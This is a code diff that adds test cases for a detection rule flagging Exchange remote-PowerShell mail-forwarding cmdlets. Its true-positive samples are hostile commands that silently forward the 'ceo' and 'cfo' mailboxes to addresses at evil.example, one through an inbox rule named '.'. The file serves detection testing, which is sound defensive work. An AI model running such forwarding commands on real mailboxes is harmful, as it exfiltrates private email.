@@ -98,6 +98,12 @@ export const cases: RuleCase[] = [
     tn: [mgmt('Add-RoleGroupMember', '-Identity "Help Desk" -Member "jdoe"'), mgmt('Get-RoleGroupMember', '-Identity "Organization Management"')],
   },
   {
+    rule: 'cmdlets/rps_mail_forwarding.yml',
+    log: 'rps-cmdlet',
+    tp: [rps('Set-Mailbox', '-Identity:"ceo" -ForwardingSmtpAddress:"smtp:drop@evil.example"'), rps('New-InboxRule', '-Mailbox:"cfo" -Name:"." -ForwardAsAttachmentTo:"x@evil.example"')],
+    tn: [rps('Set-Mailbox', '-Identity:"jdoe" -ProhibitSendQuota:"50GB"'), rps('New-InboxRule', '-Mailbox:"jdoe" -Name:"News" -MoveToFolder:"jdoe:\\News"'), rps('Get-Mailbox', '-Filter:"ForwardingSmtpAddress -ne $null"')],
+  },
+  {
     rule: 'cmdlets/mgmt_mail_forwarding.yml',
     log: 'evtx',
     tp: [mgmt('Set-Mailbox', '-Identity "ceo" -ForwardingSmtpAddress "smtp:drop@evil.example" -DeliverToMailboxAndForward "True"'), mgmt('New-InboxRule', '-Mailbox "cfo" -Name "." -RedirectTo "x@evil.example"')],
